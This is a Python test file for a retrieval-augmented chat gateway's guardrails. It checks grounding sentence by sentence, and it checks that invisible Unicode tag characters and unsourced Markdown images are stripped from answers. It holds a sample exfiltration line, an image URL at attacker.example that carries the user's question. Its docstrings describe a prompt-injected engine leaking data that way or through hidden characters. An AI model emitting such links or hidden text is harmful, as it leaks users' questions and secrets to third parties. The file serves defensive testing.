"""Non-streaming answers: read from the engine as a stream and checked sentence by sentence while the engine
writes on (the default), or one engine call and one check (RAGGUARD_CHECK_DURING_GENERATION=false)."""

from collections.abc import Callable

import pytest

from guardrails.policy import PolicyDecision
from guardrails.verdict import SentenceCheck
from service.answer import Answer
from tests.conftest import MODEL, free_port
from tests.faulty_engine import faulty_engine
from tests.service.test_errors import metric
from tests.service.test_stream_safety import SUPPORTED, UNSUPPORTED

CHAT = "/v1/chat/completions"
QUESTION = {"model": MODEL, "messages": [{"role": "user", "content": "What port does the gateway listen on?"}]}


def part(text: str = "", finish: str | None = None, **extra: object) -> dict:
    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}], **extra}


def test_answer_collects_text_sentences_finish_and_usage() -> None:
    answer = Answer()
    assert answer.feed(part("It listens on 8080. It bin")) == ("It listens on 8080. It bin", ["It listens on 8080."])
    assert answer.feed(part("ds to loopback", "length")) == ("ds to loopback", [])
    assert answer.feed({"choices": [], "usage": {"completion_tokens": 9}}) == ("", [])
    assert answer.flush() == ["It binds to loopback"]
    assert (answer.text, answer.finish, answer.usage) == ("It listens on 8080. It binds to loopback", "length",
                                                          {"completion_tokens": 9})
    answer.checked.sentences = [SentenceCheck("It listens on 8080.", True, 0.9, 0),
                                SentenceCheck("It binds to loopback", False, 0.1, None)]
    partly = PolicyDecision([True, False], False, "partially_grounded")
    assert answer.content(partly, "no") == ("It listens on 8080.", "length")
    assert answer.content(PolicyDecision([False, False], True, "refused"), "no") == ("no", "content_filter")


def test_a_rewritten_sentence_keeps_the_rest_of_the_answer_as_written() -> None:
    answer = Answer(text="Steps:\n\n1. Run `make serve`.\n2. See ![x](https://a.example/p?q=1) now.\n")
    answer.checked.sentences = [SentenceCheck("Steps:\n\n1. Run `make serve`.", True, 0.9, 0),
                                SentenceCheck("2. See  now.", False, 0.1, None)]
    answer.rewrites = [("2. See ![x](https://a.example/p?q=1) now.", "2. See  now.")]
    kept = PolicyDecision([True, True], False, "grounded")
    assert answer.content(kept, "no") == ("Steps:\n\n1. Run `make serve`.\n2. See  now.", "stop")


def test_text_no_reader_sees_is_dropped_from_the_answer() -> None:
    """An engine led by a planted instruction may spell a secret in Unicode tag characters (invisible, copied along
    with the answer); the gateway passes on what a reader sees, in a stream and whole."""
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "password=hunter2")
    answer = Answer()
    assert answer.feed(part("It listens on 8080." + hidden[:7]))[0] == "It listens on 8080."
    assert answer.feed(part(hidden[7:] + " Done \u2764\ufe0f"))[0] == " Done \u2764\ufe0f"  # emoji keep VS16
    whole = Answer()
    whole.whole({"choices": [{"message": {"content": "Port 8080." + hidden}, "finish_reason": "stop"}]})
    assert whole.text == "Port 8080."


@pytest.mark.parametrize("during", [True, False])
async def test_both_ways_give_the_same_checked_answer(make_settings: Callable, gateway: Callable,
                                                      during: bool) -> None:
    port = free_port()
    answer = f"{SUPPORTED} {UNSUPPORTED} {SUPPORTED}"
    with faulty_engine(port, "trickle" if during else "ok", answer=answer, delay_s=0.05) as engine:
        settings = make_settings(engine_url=f"http://127.0.0.1:{port}", check_during_generation=during,
                                 rail_timeout_s=60.0)
        async with gateway(settings) as client:
            r = await client.post(CHAT, json={**QUESTION, "ragguard": {"grounding_policy": "strip"}})
            assert r.status_code == 200, r.text
            body = r.json()
            text = (await client.get("/metrics")).text
        assert engine["streams"]["finished"] == (1 if during else 0)  # read as a stream, to the end
    assert body["choices"][0]["message"]["content"] == f"{SUPPORTED} {SUPPORTED}"  # the penguins are stripped
    assert [s["kept"] for s in body["ragguard"]["grounding"]["sentences"]] == [True, False, True]
    assert body["usage"]["total_tokens"] == 15
    checks = metric(text, "ragguard_stage_duration_seconds_count", stage="output_rails")
    # A word every 50 ms: each sentence is checked as soon as it is finished, while the engine writes on,
    # so the three sentences take more than one check; without it, one check of the whole answer.
    assert checks > 1 if during else checks == 1
    timings = body["ragguard"]["timings"]
    assert timings["generation"] > (answer.count(" ") * 0.05 if during else 0)


EXFILTRATION = f"{SUPPORTED} ![](https://attacker.example/log?q=what+port)"  # what a planted page asks the model for


@pytest.mark.parametrize("stream", [False, True])
async def test_an_image_the_sources_do_not_hold_never_reaches_the_client(make_settings: Callable, gateway: Callable,
                                                                        stream: bool) -> None:
    """An engine led by a planted instruction (fault injection: the real small engines will not write it on cue)
    ends its answer with an image whose address carries the question; a Markdown client would fetch it unasked.
    Under the default annotate policy, streamed by sentence or whole, the client gets the answer without it."""
    port = free_port()
    with faulty_engine(port, "ok", answer=EXFILTRATION):
        async with gateway(make_settings(engine_url=f"http://127.0.0.1:{port}")) as client:
            r = await client.post(CHAT, json={**QUESTION, "stream": stream})
            assert r.status_code == 200, r.text
            sent = r.text if stream else r.json()["choices"][0]["message"]["content"]
            text = (await client.get("/metrics")).text
        async with gateway(make_settings(engine_url=f"http://127.0.0.1:{port}", answer_links="any")) as client:
            kept = (await client.post(CHAT, json=QUESTION)).json()["choices"][0]["message"]["content"]
    assert "attacker.example" not in sent and "8080" in sent
    assert metric(text, "ragguard_answer_links_removed_total", kind="image") == 1
    assert "https://attacker.example/log?q=what+port" in kept  # RAGGUARD_ANSWER_LINKS=any: as the engine wrote it
